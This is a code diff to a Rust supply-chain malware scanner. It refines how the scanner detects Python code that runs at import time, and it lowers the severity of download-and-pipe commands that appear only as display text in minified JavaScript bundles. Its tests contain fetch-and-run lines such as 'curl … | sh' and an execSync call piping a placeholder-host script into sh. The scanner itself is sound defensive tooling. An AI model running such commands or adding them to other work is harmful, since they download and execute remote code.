@@ -22,7 +22,9 @@ pub const MAX_HITS_PER_RULE: usize = 5;
 #[derive(Debug, Clone)]
 pub(crate) struct RawHit {
     pub hit: Hit,
-    /// The line starts at column 0 (top-level statement), layer 0 only.
+    /// The line runs at import time: module level, outside any `def` or
+    /// `class` body (module-level `try`/`if`/`with` blocks included) and not
+    /// inside the arguments of `setup(...)`. Layer 0 only.
     pub top_level: bool,
 }
 
@@ -152,12 +154,45 @@ pub fn scan_source(path_in_package: &str, content: &[u8]) -> Vec<Hit> {
         install_script: is_install_script(path_in_package),
         budget: Budget::default(),
         hits: Vec::new(),
+        module_level: Vec::new(),
     };
     scan_layer(&mut ctx, lang, &text, 0, None, false);
+    if lang == Language::JavaScript && is_minified(&text) {
+        demote_display_commands(&mut ctx.hits);
+    }
     let derived = flows::file_flows(path_in_package, ctx.install_script, &ctx.hits);
     let mut hits: Vec<Hit> = ctx.hits.into_iter().map(|r| r.hit).collect();
     hits.extend(derived);
     hits
+}
+
+/// A minified bundle: long lines. Front-end bundles embed install commands
+/// (`curl … | sh`) as text to show users, not to run.
+fn is_minified(text: &str) -> bool {
+    let lines = text.lines().count().max(1);
+    text.len() / lines >= 300 || text.lines().any(|l| l.len() >= 5000)
+}
+
+/// In a minified bundle, a download-and-pipe command not in an exec/spawn
+/// position is display text: keep it as a low, low-confidence note.
+fn demote_display_commands(hits: &mut [RawHit]) {
+    const RUNNERS: &[&str] = &[
+        "exec(",
+        "execSync(",
+        "spawn(",
+        "spawnSync(",
+        "system(",
+        "shell:",
+    ];
+    for h in hits.iter_mut() {
+        if h.hit.rule.meta.id == crate::families::download_exec::PIPE_SHELL.meta.id
+            && h.hit.layer == 0
+            && !RUNNERS.iter().any(|r| h.hit.snippet.contains(r))
+        {
+            h.hit.severity = chainwarden_core::Severity::Low;
+            h.hit.confidence = chainwarden_core::Confidence::Low;
+        }
+    }
 }
 
 /// Scans `text` as a shell command line (npm scripts), layer 0, no flows.
@@ -167,6 +202,7 @@ pub(crate) fn scan_as_shell(path: &str, text: &str) -> Vec<Hit> {
         install_script: false,
         budget: Budget::default(),
         hits: Vec::new(),
+        module_level: Vec::new(),
     };
     scan_layer(&mut ctx, Language::Shell, text, 0, None, false);
     ctx.hits.into_iter().map(|r| r.hit).collect()
@@ -179,6 +215,7 @@ pub(crate) fn scan_python_snippet(path: &str, text: &str) -> Vec<Hit> {
         install_script: false,
         budget: Budget::default(),
         hits: Vec::new(),
+        module_level: Vec::new(),
     };
     scan_layer(&mut ctx, Language::Python, text, 0, None, false);
     let derived = flows::file_flows(path, false, &ctx.hits);
@@ -192,6 +229,8 @@ pub(crate) struct Ctx<'a> {
     pub install_script: bool,
     pub budget: Budget,
     pub hits: Vec<RawHit>,
+    /// Per line (0-based) of layer 0: runs at import time (Python only).
+    pub module_level: Vec<bool>,
 }
 
 fn scan_layer(
@@ -212,6 +251,9 @@ fn scan_layer(
         _ => (lex_python(text), &engines.python),
     };
     let lines = LineIndex::new(text);
+    if layer == 0 && !bare_blob && matches!(lang, Language::Python | Language::Pth) {
+        ctx.module_level = module_level_lines(&views.code);
+    }
     let before = ctx.hits.len();
     if !matches!(lang, Language::Shell) && !bare_blob {
         run_set(
@@ -328,7 +370,13 @@ fn run_set(
         for m in matches.iter().take(MAX_HITS_PER_RULE) {
             let line = lines.line_of(m.start());
             let line_text = lines.text_of(text, line);
-            let top_level = layer == 0 && !line_text.starts_with([' ', '\t']);
+            let top_level = layer == 0
+                && if ctx.module_level.is_empty() {
+                    !line_text.starts_with([' ', '\t'])
+                } else {
+                    let i = (line as usize).saturating_sub(1);
+                    ctx.module_level.get(i).copied().unwrap_or(false)
+                };
             let col = m.start().saturating_sub(lines.start_of(line));
             let snip = snippet_around(line_text, col, m.len());
             push(
@@ -357,6 +405,51 @@ fn push(ctx: &mut Ctx<'_>, rule: &'static Rule, line: u32, snip: String, layer: 
         },
         top_level: top,
     });
+}
+
+/// For each line of Python code (strings and comments blanked): does it run
+/// at import time? Lines outside every `def`/`class` body do, including
+/// module-level `try:`/`if`/`with`/`for` blocks; continuation lines take the
+/// answer of their statement's first line, except the arguments of a
+/// `setup(...)` call (metadata, run by setuptools, not a side effect).
+pub(crate) fn module_level_lines(code: &str) -> Vec<bool> {
+    let mut out = Vec::new();
+    let mut bodies: Vec<usize> = Vec::new();
+    let mut depth = 0i32;
+    let mut statement = false;
+    for line in code.split('\n') {
+        let trimmed = line.trim_start_matches([' ', '\t']);
+        let indent = line.len() - trimmed.len();
+        let blank = trimmed.trim().is_empty();
+        if depth > 0 {
+            out.push(statement);
+        } else if blank {
+            out.push(false);
+        } else {
+            while bodies.last().is_some_and(|&d| indent <= d) {
+                bodies.pop();
+            }
+            let is_setup = ["setup(", "setup (", "setuptools.setup("]
+                .iter()
+                .any(|p| trimmed.starts_with(p));
+            statement = bodies.is_empty() && !is_setup;
+            out.push(statement);
+            if ["def ", "async def ", "class "]
+                .iter()
+                .any(|p| trimmed.starts_with(p))
+            {
+                bodies.push(indent);
+            }
+        }
+        for b in line.bytes() {
+            match b {
+                b'(' | b'[' | b'{' => depth += 1,
+                b')' | b']' | b'}' => depth = (depth - 1).max(0),
+                _ => {}
+            }
+        }
+    }
+    out
 }
 
 /// Drops repeated (rule, line, layer) hits added since `from` (a `Both` rule
@@ -440,6 +533,49 @@ mod tests {
         let re = Regex::new(&ascii_word_boundaries(r"\bexec\b")).unwrap();
         assert!(re.is_match("é exec é"));
         assert!(!re.is_match("exec_1"));
+    }
+
+    #[test]
+    fn module_level_follows_blocks_not_indentation() {
+        let src = "import os\ntry:\n    os.system('x')\nexcept Exception:\n    pass\ndef f():\n    os.system('y')\n    if 1:\n        g(\n          1)\nif not os.path.exists('p'):\n    h(\n      2)\nsetup(\n    version=v(),\n)\nclass C:\n    z = 1\n";
+        let code = lex_python(src).code;
+        let m = module_level_lines(&code);
+        let want = [
+            true, true, true, true, true, true, false, false, false, false, true, true, true,
+            false, false, false, true, false,
+        ];
+        assert_eq!(&m[..want.len()], &want[..], "{m:?}");
+    }
+
+    #[test]
+    fn display_commands_in_minified_bundles_are_demoted() {
+        let pad = "var a=1;".repeat(100);
+        let shown = format!("{pad}const t=`curl -LsSf https://x.example/install.sh | sh`;{pad}\n");
+        let hits = scan_source("assets/index-abc.js", shown.as_bytes());
+        let pipe = hits
+            .iter()
+            .find(|h| h.rule.meta.id == "heuristic/download-exec-pipe-shell")
+            .map(|h| h.severity);
+        assert_eq!(pipe, Some(chainwarden_core::Severity::Low), "{hits:?}");
+        let run = format!("{pad}cp.execSync('curl -s https://x.example/a.sh | sh');{pad}\n");
+        let hits = scan_source("assets/index-abc.js", run.as_bytes());
+        assert!(
+            hits.iter()
+                .any(|h| h.rule.meta.id == "heuristic/download-exec-pipe-shell"
+                    && h.severity == chainwarden_core::Severity::High),
+            "{hits:?}"
+        );
+        // Not minified: unchanged.
+        let hits = scan_source(
+            "lib/a.js",
+            b"const t = `curl -LsSf https://x.example/i.sh | sh`;\n",
+        );
+        assert!(
+            hits.iter()
+                .any(|h| h.rule.meta.id == "heuristic/download-exec-pipe-shell"
+                    && h.severity == chainwarden_core::Severity::High),
+            "{hits:?}"
+        );
     }
 
     #[test]
